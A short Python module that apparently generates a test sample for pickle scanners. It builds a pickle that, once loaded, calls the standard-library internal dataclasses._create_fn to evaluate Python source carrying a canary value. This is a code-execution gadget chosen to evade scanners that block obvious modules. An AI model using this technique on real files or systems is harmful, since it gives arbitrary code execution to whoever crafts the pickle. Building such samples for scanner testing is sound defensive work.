"""Dataclasses writes source text and runs it."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call, python


def build(canary: str) -> bytes:
    return pickled_call("dataclasses", "_create_fn", "f", [f"a={python(canary)}"], ["pass"])
